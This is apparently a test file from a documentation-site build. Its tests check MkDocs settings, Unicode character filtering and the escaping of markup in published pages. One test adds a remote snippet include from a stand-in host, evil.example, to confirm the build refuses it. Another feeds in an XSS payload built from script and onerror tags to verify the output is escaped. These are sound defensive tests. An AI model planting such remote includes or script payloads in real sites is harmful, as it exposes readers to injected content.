    asked = []

    def no_network(*args, **kwargs):
        asked.append(args)
        raise OSError("no network in this test")

    monkeypatch.setattr(socket, "getaddrinfo", no_network)
    replace_in(inputs / CONFIG, "  - footnotes\n", "  - footnotes\n  - pymdownx.snippets:\n      url_download: true\n")
    (inputs / "docs/conventions.md").write_text((inputs / "docs/conventions.md").read_text(encoding="utf-8")
                                                 + '\n--8<-- "https://evil.example/x.md"\n', encoding="utf-8")
    problems = refusal(inputs)
    assert any(line.startswith(f"{CONFIG}:") and "'pymdownx.snippets', which the edition has not checked" in line
               for line in problems), problems
    assert asked == []


@pytest.mark.parametrize("address", ["http://[::ffff:1.2.3.4]/x", "http://1.2.3.4/", "https://www.un.org/en/",
                                     "http://[2001:4860:4860::8888]/"])
def test_a_host_a_browser_reads_as_written_is_taken(address):
    """The rule for hosts ending in a number (case 172) holds IPv4 in its other forms, never an address as written."""
    assert host_problem(address) is None


def test_the_extensions_every_page_is_checked_with_are_those_mkdocs_adds():
    from mkdocs.config.defaults import MkDocsConfig

    assert list(MKDOCS_BUILTINS) == MkDocsConfig.markdown_extensions.builtins


def test_the_colours_a_palette_may_name_are_those_materials_stylesheet_has():
    """theme.palette's primary and accent are written into every page's data-md-color-* (thirtieth round, T7)."""
    import material

    stylesheet = next((Path(material.__file__).parent / "templates" / "assets" / "stylesheets").glob("palette.*.min.css"))
    css = stylesheet.read_text(encoding="utf-8")
    for role, allowed in (("primary", PRIMARY_COLOURS), ("accent", ACCENT_COLOURS)):
        assert set(re.findall(rf"\[data-md-color-{role}=([a-z-]+)\]", css)) | {"custom"} == allowed


def test_the_settings_mkdocs_yml_may_hold_are_those_mkdocs_knows():
    from mkdocs.config.defaults import MkDocsConfig

    known = {name for name, _ in MkDocsConfig._schema} - {"config_file_path", "mdx_configs"}  # filled in by MkDocs
    assert known | {"INHERIT"} == MKDOCS_SETTINGS


def test_every_format_character_but_those_scripts_need_is_refused_in_a_value():
    """Unicode's format characters (category Cf) hide, join or reorder words unseen: a value may hold only those
    a script needs (the joiners, the direction marks, the signs drawn over Arabic and Kaithi numbers)."""
    wrong = []
    for character in (chr(c) for c in range(0x110000) if unicodedata.category(chr(c)) == "Cf"):
        problems = []
        parse_yaml(f"title: 'a{character}b'\n", "x.yml", problems)
        if bool(problems) != (character not in FORMAT_CHARACTERS_KEPT):
            wrong.append(f"U+{ord(character):04X}")
    assert not wrong, f"held wrongly: {wrong}"


# Unicode 15.1's Default_Ignorable_Code_Point (DerivedCoreProperties.txt): what browsers draw as nothing.
DEFAULT_IGNORABLE = [(0x00AD, 0x00AD), (0x034F, 0x034F), (0x061C, 0x061C), (0x115F, 0x1160), (0x17B4, 0x17B5),
                     (0x180B, 0x180F), (0x200B, 0x200F), (0x202A, 0x202E), (0x2060, 0x206F), (0x3164, 0x3164),
                     (0xFE00, 0xFE0F), (0xFEFF, 0xFEFF), (0xFFA0, 0xFFA0), (0xFFF0, 0xFFF8), (0x1BCA0, 0x1BCA3),
                     (0x1D173, 0x1D17A), (0xE0000, 0xE0FFF)]
# Kept: the joiners and direction marks scripts need, the sixteen standard variation selectors (emoji, CJK).
IGNORABLE_KEPT = FORMAT_CHARACTERS_KEPT | {chr(c) for c in range(0xFE00, 0xFE10)}


def test_every_default_ignorable_character_but_those_scripts_need_is_refused_in_a_value():
    """Tenth round: U+E0080 (unassigned, in the tag block) and U+2065 got through as no list named them. Each of
    Mongolian's free variation selectors is the script's own after a Mongolian letter, and refused after another; the
    standard selectors are an emoji's or a CJK character's own, and refused after a Latin letter (forty-first round)."""
    wrong = []
    for character in (chr(c) for first, last in DEFAULT_IGNORABLE for c in range(first, last + 1)):
        for before in ("a", "\u1820", "\u2600"):  # a Latin letter; MONGOLIAN LETTER A; BLACK SUN WITH RAYS
            problems = []
            parse_yaml(f"title: '{before}{character}b'\n", "x.yml", problems)
            # The standard selectors after a symbol with variants alone (forty-third round: not after a Mongolian letter).
            kept = (character in IGNORABLE_KEPT and not (before != "\u2600" and "\ufe00" <= character <= "\ufe0f")) or (
                before == "\u1820" and character in "\u180b\u180c\u180d\u180f")
            if bool(problems) == kept:
                wrong.append(f"U+{ord(character):04X} after U+{ord(before):04X}")
    assert not wrong, f"held wrongly: {wrong}"


@pytest.mark.parametrize("text, line", [
    ("a: '\u1820\u180b'\nb: 'x\u180b'\n", 2),  # a Mongolian selector kept after its letter, refused after a Latin one
    ("b: 'x\u180b'\na: '\u1820\u180b'\n", 1),
    ("a: 'e\u0301'\nb: '\u0301e'\n", 2),  # a combining mark kept on its letter, refused at a value's start
    ("a: 'plain'\nb: \"\\u200b\"\n", 2),  # a character the file holds only as an escape
    ("# \u200b in a comment\na: 'x\u200b'\n", 2),
])
def test_a_refused_character_is_named_in_its_value_beside_the_same_character_kept(text, line):
    """A file is looked at whole first, and its values one by one only when the whole holds a character a value may
    not, or might not, hold: a character kept in one value and refused in another is refused at the other's line."""
    problems = []
    assert parse_yaml(text, "x.yml", problems) is None
    assert [problem.line for problem in problems] == [line], problems


def test_markup_in_every_data_field_is_published_as_text(project):
    """Markup typed into the data reaches every channel as the characters typed, and runs nowhere."""
    payload = '<!--<script>alert(1)</script><img src=x onerror=alert(2)>&amp;'
    # A source record's fields go to the citation formatter, which reads <i> and &amp; as markup: there
    # they are refused (see the cases above); what reaches the pages otherwise is shown as typed.
    text_payload = "1 < 2 & 3 > 2 \" ' &amp &c"
    replace("sources/france24-2020-03-19.yml", 'title: "US-led coalition pulls trainers from Iraq over virus"',
            "title: " + json.dumps("Trainers " + text_payload))(project)
    replace("sources/essay/glossary.yml", "name: Kataib Hizbullah", "name: " + json.dumps("Kataib Hizbullah " + payload))(project)
    replace("sources/essay/editorial-notes.yml", "    The essay prints", f"    Note {payload} The essay prints")(project)
    replace("sources/essay/events.yml", "  date: 2019-09-14\n  what: ", f"  date: 2019-09-14\n  what: Event {payload} ")(project)
    result = run_build(project)
    assert result.returncode == 0, result.stderr
    from bs4 import BeautifulSoup

    site = project / "site"
    for html in site.rglob("*.html"):
        text = html.read_text(encoding="utf-8")
        soup = BeautifulSoup(text, "html.parser")
        assert not soup.find(attrs={"onerror": True}), html
        for script in soup.find_all("script"):
            body = script.string or ""
            assert "<!--" not in body and "</script" not in body.lower() and "<img" not in body, (html, body[:200])
            if script.get("type") in ("application/json", "application/ld+json"):
                json.loads(body)
        # The page's end is still reached: no script swallowed the body.
        assert soup.find("footer") is not None or "404" in html.name or soup.find("meta", attrs={"http-equiv": "refresh"}), html
    sources = BeautifulSoup((site / "sources/index.html").read_text(encoding="utf-8"), "html.parser")
    assert ("Trainers " + text_payload) in sources.find(id="src-france24-2020-03-19").get_text()
    glossary = BeautifulSoup((site / "glossary/index.html").read_text(encoding="utf-8"), "html.parser")
    assert ("Kataib Hizbullah " + payload) in glossary.get_text()
    notes = BeautifulSoup((site / "irans-asymmetric-retaliation/index.html").read_text(encoding="utf-8"), "html.parser")
    assert f"Note {payload} The essay prints" in notes.select_one(".editorial-note[id^='fn:ed-zarif']").get_text()
    chronology = BeautifulSoup((site / "chronology/index.html").read_text(encoding="utf-8"), "html.parser")
    assert f"Event {payload} Saudi Arabia halves" in chronology.get_text()
    titles = [link["title"] for html in site.rglob("*/index.html")
              for link in BeautifulSoup(html.read_text(encoding="utf-8"), "html.parser").select("a.event-link")
              if "Saudi Arabia halves" in link["title"]]
    assert titles and all(f"Event {payload} Saudi Arabia halves" in title for title in titles), titles
    bib = (site / "downloads/sources.bib").read_text(encoding="utf-8")
    assert "<img" not in bib and "\\textless" in bib
    items = json.loads((site / "downloads/sources.json").read_text(encoding="utf-8"))
    assert any(item.get("title") == "Trainers " + text_payload for item in items)
